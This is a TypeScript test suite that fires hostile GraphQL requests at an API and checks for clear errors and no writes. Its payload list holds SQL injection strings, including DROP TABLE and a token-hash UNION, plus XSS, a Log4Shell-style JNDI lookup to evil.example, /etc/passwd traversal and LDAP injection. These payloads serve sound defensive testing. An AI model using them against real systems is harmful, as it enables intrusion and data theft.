// Hostile GraphQL requests against the real schema and services: each gets a clear error (never
// "Unexpected error.", never our source code), writes nothing (the whole database is fingerprinted
// before and after), changes nothing in MISP, and the server answers an ordinary query afterwards.
import { GraphQLInputObjectType, getNamedType, isListType, isNonNullType, isScalarType, type GraphQLArgument, type GraphQLInputType } from 'graphql';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { schema } from '../../src/graphql/schema.js';
import { apiWorld, databaseFingerprint, DAY, expectServerUp, operationFor, type ApiWorld } from './api-harness.js';

type Body = { data?: unknown; errors?: Array<{ message: string; extensions?: Record<string, unknown> }> };

/** An error an API user can act on: a message, not the masked one, with no source code or stack in it. */
function expectClearErrors(json: Body, pattern?: RegExp) {
  expect(json.errors?.length, JSON.stringify(json)).toBeGreaterThan(0);
  for (const e of json.errors!) {
    expect(e.message).not.toBe('Unexpected error.');
    expect(e.message).not.toMatch(/Invalid `|prisma\.|\/work\/|\bat .*\.ts:\d+/);
  }
  if (pattern) expect(json.errors!.map((e) => e.message).join('\n')).toMatch(pattern);
}

const PAYLOADS: Array<[string, string]> = [
  ['SQL quote', "' OR '1'='1"],
  ['SQL statement', '1; DROP TABLE "DailyContribution"; --'],
  ['SQL union', "%' UNION SELECT tokenHash FROM ApiToken --"],
  ['HTML', '<script>alert(1)</script>'],
  ['template', '${jndi:ldap://evil.example/a}{{7*7}}'],
  ['path', '../../../../etc/passwd'],
  ['control characters', 'a\u0000b\u0001c\u001f'],
  ['lone surrogate', 'x\ud800y'],
  ['right-to-left override', '\u202egnp.exe'],
  ['JSON operator', '{"$gt": ""}'],
  ['LDAP', '*)(uid=*))(|(uid=*'],
  ['negative number', '-1'],
  ['100 000 characters', 'a'.repeat(100_000)],
];

/** Arguments a client types text into: strings, ids and dates, alone or in lists. */
function isTextArgument(arg: GraphQLArgument): boolean {
  const named = getNamedType(arg.type);
  return isScalarType(named) && ['String', 'ID', 'Date'].includes(named.name);
}

function textValue(type: GraphQLInputType, payload: string): unknown {
  const inner = isNonNullType(type) ? type.ofType : type;
  return isListType(inner) ? [payload] : payload;
}

const fields = [...Object.values(schema.getQueryType()!.getFields()).map((f) => ['query', f] as const), ...Object.values(schema.getMutationType()!.getFields()).map((f) => ['mutation', f] as const)];
const textCases = fields.flatMap(([kind, field]) => field.args.filter(isTextArgument).map((arg) => [`${field.name}(${arg.name})`, kind, field, arg] as const));

describe('hostile GraphQL requests', () => {
  let w: ApiWorld;
  let fingerprint: string;
  let mispChanges: number;

  beforeAll(async () => {
    w = await apiWorld();
    // Stamp the tokens' last use now, so that later lookups within the minute write nothing.
    await w.api.run('{ organizations { alias } }');
    await w.api.run('{ organizations { alias } }', {}, w.api.readerToken);
    fingerprint = databaseFingerprint(w.world.db.path);
    mispChanges = w.world.misp.mutations.length;
  });
  afterAll(() => w?.close());

  /** Nothing in the database or MISP changed, and the server still answers. */
  async function expectNothingWritten() {
    expect(databaseFingerprint(w.world.db.path)).toBe(fingerprint);
    expect(w.world.misp.mutations.length).toBe(mispChanges);
    await expectServerUp(w.api);
  }

  const malformed: Array<[string, string, RegExp]> = [
    ['an unclosed selection', JSON.stringify({ query: '{ organizations { alias }' }), /Syntax Error/],
    ['an unclosed mutation', JSON.stringify({ query: `mutation { runDay(date: "${DAY}") { __typename }` }), /Syntax Error/],
    ['a stray brace', JSON.stringify({ query: '} { organizations { alias } }' }), /Syntax Error/],
    ['an empty document', JSON.stringify({ query: '' }), /Syntax Error: Unexpected <EOF>/],
    ['no query at all', JSON.stringify({ variables: {} }), /query/i],
    ['a query that is a number', JSON.stringify({ query: 42 }), /query/i],
    ['a body that is not JSON', '{"query": "{ organizations { alias } }"', /JSON/],
    ['a batch of mutations', JSON.stringify([{ query: `mutation { runDay(date: "${DAY}") { __typename } }` }]), /./],
    ['variables that are not an object', JSON.stringify({ query: '{ organizations { alias } }', variables: 'nope' }), /variables/i],
    ['an unknown operation name', JSON.stringify({ query: 'query A { organizations { alias } }', operationName: 'B' }), /Could not determine what operation to execute/],
    ['two operations and no name', JSON.stringify({ query: 'query A { syncUsers { email } } mutation B { refreshWarninglists { __typename } }' }), /Could not determine what operation to execute/],
    ['an unknown field', JSON.stringify({ query: '{ nope }' }), /Cannot query field "nope"/],
    ['a fragment spread into itself', JSON.stringify({ query: '{ ...A } fragment A on Query { organizations { alias } ...A }' }), /Cannot spread fragment "A" within itself/],
  ];

  it.each(malformed)('refuses %s', async (_name, body, message) => {
    const { json } = await w.post(body);
    expectClearErrors(json, message);
    await expectNothingWritten();
  });

  it('refuses a mutation sent over GET', async () => {
    const query = encodeURIComponent(`mutation { runDay(date: "${DAY}") { __typename } }`);
    const response = await w.api.yoga.fetch(`http://localhost/graphql?query=${query}`, { headers: { authorization: `Bearer ${w.api.adminToken}`, 'x-graphql-yoga-csrf': '1' } });
    expect(response.status).toBe(405);
    expectClearErrors((await response.json()) as Body, /mutation operation from a POST request/);
    await expectNothingWritten();
  });

  const abusive: Array<[string, () => string, RegExp]> = [
    ['deep nesting', () => `{ organizations { ${'syncUsers { organization { '.repeat(8)}alias${' } }'.repeat(8)} } }`, /depth limit of 12 exceeded/],
    ['a wide query', () => `{ organizations { ${'alias '.repeat(6000)}} }`, /Token limit of \d+ exceeded/],
    ['an alias flood of a mutation', () => `mutation { ${Array.from({ length: 100 }, (_, i) => `a${i}: runDay(date: "${DAY}") { __typename }`).join(' ')} }`, /Aliases limit of 30 exceeded/],
    ['an alias flood of reads', () => `{ ${Array.from({ length: 200 }, (_, i) => `a${i}: leaderboard(from: "2026-01-01", to: "2026-12-31") { rank }`).join(' ')} }`, /Aliases limit of 30 exceeded/],
    ['a directive flood', () => `{ organizations ${'@include(if: true) '.repeat(50)}{ alias } }`, /Directives limit of 20 exceeded/],
    [
      'a costly query',
      () =>
        `{ ${Array.from({ length: 25 }, (_, i) => `c${i}: curationLogs(first: 200) { edges { node { organization { syncUsers { organization { curationLogs: syncUsers { email } } } } } } }`).join(' ')} }`,
      /Cost limit of \d+ exceeded|Aliases/,
    ],
  ];

  it.each(abusive)('refuses %s before running it', async (_name, document, message) => {
    const { json } = await w.post(JSON.stringify({ query: document() }));
    expectClearErrors(json, message);
    await expectNothingWritten();
  });

  it('refuses a huge variable where a short one is expected, and answers one where any text is allowed', async () => {
    const huge = 'a'.repeat(2_000_000);
    const add = await w.api.run('mutation($e: String!) { addSyncUser(email: $e, organizationAlias: "x") { __typename ... on Error { message } } }', { e: `${huge}@x.example` });
    expect(add.data).toMatchObject({ addSyncUser: { __typename: 'InvalidInputError', message: expect.stringMatching(/is not an e-mail address/) } });
    const check = await w.api.run('query($v: String!) { checkIndicator(type: "domain", value: $v) { decision } }', { v: huge });
    expect(check.errors).toBeUndefined();
    expect(check.data).toEqual({ checkIndicator: { decision: 'UNKNOWN' } });
    await expectNothingWritten();
  });

  it('refuses a filter over 50 000 community aliases with a clear error', async () => {
    const organizations = Array.from({ length: 50_000 }, (_, i) => `alias-${i}`);
    const result = await w.api.run('query($o: [String!]) { contributions(from: "2026-08-01", to: "2026-08-05", organizations: $o) { organization { alias } } }', { o: organizations });
    expectClearErrors(result as Body, /lists 50000 aliases; at most 1000 are allowed/);
    await expectNothingWritten();
  });

  const badArguments: Array<[string, string, RegExp]> = [
    ['February 30th', '{ leaderboard(from: "2026-02-30", to: "2026-03-01") { rank } }', /Date/],
    ['a thirteenth month', '{ leaderboard(from: "2026-13-01", to: "2026-12-31") { rank } }', /Date/],
    ['a date without dashes', '{ leaderboard(from: "20260101", to: "2026-12-31") { rank } }', /Date/],
    ['an empty date', '{ leaderboard(from: "", to: "2026-12-31") { rank } }', /Date/],
    ['a date-time for a date', '{ leaderboard(from: "2026-01-01T00:00:00Z", to: "2026-12-31") { rank } }', /Date/],
    ['a range that ends before it starts', '{ leaderboard(from: "2026-05-02", to: "2026-05-01") { rank } }', /"from" \(2026-05-02\) is after "to" \(2026-05-01\)/],
    ['a range longer than GRAPHQL_MAX_RANGE_DAYS', '{ contributions(from: "1990-01-01", to: "2026-01-01") { start } }', /at most 1096 are allowed/],
    ['a number for a date', '{ leaderboard(from: 2026, to: "2026-12-31") { rank } }', /Date/],
    ['a string for an Int', '{ leaderboard(from: "2026-01-01", to: "2026-01-02", limit: "ten") { rank } }', /Int cannot represent/],
    ['a fraction for an Int', '{ curationLogs(first: 1.5) { totalCount } }', /Int cannot represent/],
    ['an Int beyond 32 bits', '{ curationLogs(last: 2147483648) { totalCount } }', /Int cannot represent|Cost limit of \d+ exceeded/],
    ['an object for an ID', '{ pipelineRun(id: { a: 1 }) { id } }', /ID cannot represent/],
    ['null for a required date', `mutation { runDay(date: null) { __typename } }`, /Expected value of type "Date!"/],
    ['an unknown enum value', '{ leaderboard(from: "2026-01-01", to: "2026-01-02", metric: FOO) { rank } }', /Value "FOO" does not exist in "LeaderboardMetric" enum/],
    ['an enum value given as a string', '{ contributions(from: "2026-01-01", to: "2026-01-02", granularity: "DAY") { start } }', /Enum "Granularity" cannot represent non-enum value/],
    ['a page far above the cap', '{ curationLogs(first: 100000) { totalCount } }', /Cost limit of \d+ exceeded/],
    ['a page just above the cap', '{ curationLogs(first: 201) { edges { cursor } } }', /"first" must be from 0 to 200/],
    ['a negative page', '{ pipelineRuns(first: -1) { totalCount } }', /"first" must be a non-negative integer/],
    ['a leaderboard of a million', '{ leaderboard(from: "2026-01-01", to: "2026-01-02", limit: 1000000) { rank } }', /"limit" must be from/],
    ['an unknown argument', '{ organizations(where: "1=1") { alias } }', /Unknown argument "where"/],
    ['a cursor that is not one', '{ curationLogs(after: "not-a-cursor") { totalCount } }', /cursor/i],
  ];

  it.each(badArguments)('refuses %s with a clear error', async (_name, document, message) => {
    const { json } = await w.post(JSON.stringify({ query: document }));
    expectClearErrors(json, message);
    await expectNothingWritten();
  });

  const badMutations: Array<[string, string, string, RegExp]> = [
    ['a backfill that ends before it starts', 'backfill(from: "2026-05-02", to: "2026-05-01")', 'InvalidInputError', /swap the dates/],
    ['a backfill over 20 years', 'backfill(from: "2000-01-01", to: "2025-12-31")', 'InvalidInputError', /at most 3660 days/],
    ['a day in the future', 'runDay(date: "2999-01-01")', 'InvalidInputError', /has not ended yet/],
    ['a backfill into the future', 'backfill(from: "2026-01-01", to: "2999-01-01")', 'InvalidInputError', /has not ended yet/],
    ['cancelling a run that does not exist', 'cancelRun(id: "999999")', 'NotFoundError', /No run has id 999999/],
    ['cancelling run zero', 'cancelRun(id: "0")', 'InvalidInputError', /positive whole number/],
    ['restoring a log row that does not exist', 'restoreCuratedAttribute(curationLogId: "999999")', 'NotFoundError', /No curation log row has id 999999/],
    ['an alias of 65 characters', `addSyncUser(email: "a@b.example", organizationAlias: "${'a'.repeat(65)}")`, 'InvalidInputError', /not a valid community alias/],
    ['an empty alias', 'addSyncUser(email: "a@b.example", organizationAlias: "   ")', 'InvalidInputError', /alias is empty/],
    ['renaming onto a taken alias', 'renameOrganization(alias: "community-1", newAlias: "community-2")', 'ConflictError', /already used/],
    ['registering a sync user twice', 'addSyncUser(email: "sync@community-01.example", organizationAlias: "other")', 'ConflictError', /already registered/],
  ];

  it.each(badMutations)('answers %s with a typed error and writes nothing', async (_name, call, type, message) => {
    const result = await w.api.run(`mutation { ${call} { __typename ... on Error { message } } }`);
    expect(result.errors).toBeUndefined();
    const [answer] = Object.values(result.data as Record<string, { __typename: string; message: string }>);
    expect(answer).toMatchObject({ __typename: type, message: expect.stringMatching(message) });
    await expectNothingWritten();
  });

  it('lists every text argument of the schema for the injection cases', () => {
    expect(textCases.length).toBeGreaterThan(15);
    expect(fields.flatMap(([, f]) => f.args).some((a) => getNamedType(a.type) instanceof GraphQLInputObjectType)).toBe(false);
  });

  describe.each(textCases)('injection-looking text in %s', (_label, kind, field, arg) => {
    it.each(PAYLOADS)('%s: a clear error or an empty answer, nothing written', async (_name, payload) => {
      const { document, variables } = operationFor(kind, field);
      const { json } = await w.post(JSON.stringify({ query: document, variables: { ...variables, [arg.name]: textValue(arg.type, payload) } }));
      if (json.errors) expectClearErrors(json);
      else if (kind === 'mutation') expect(Object.values(json.data as Record<string, { __typename: string }>)[0]!.__typename).toMatch(/Error$/);
      await expectNothingWritten();
    });
  });
});
